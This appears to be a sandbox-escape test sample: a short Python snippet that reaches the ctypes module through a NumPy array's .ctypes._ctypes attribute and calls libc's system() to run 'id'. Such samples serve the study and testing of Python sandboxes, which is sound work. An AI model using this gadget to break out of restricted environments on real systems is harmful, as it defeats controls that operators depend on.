# class: library-mediated | technique: an ndarray's .ctypes helper keeps the ctypes module in its _ctypes attribute; CDLL(None) then calls libc's system() | effect: calls native code (libc system) which runs `id`
import numpy as np

buf = np.zeros(8, dtype=np.uint8)
ffi = buf.ctypes._ctypes
libc = ffi.CDLL(None)
print("status:", libc.system(b"id"))
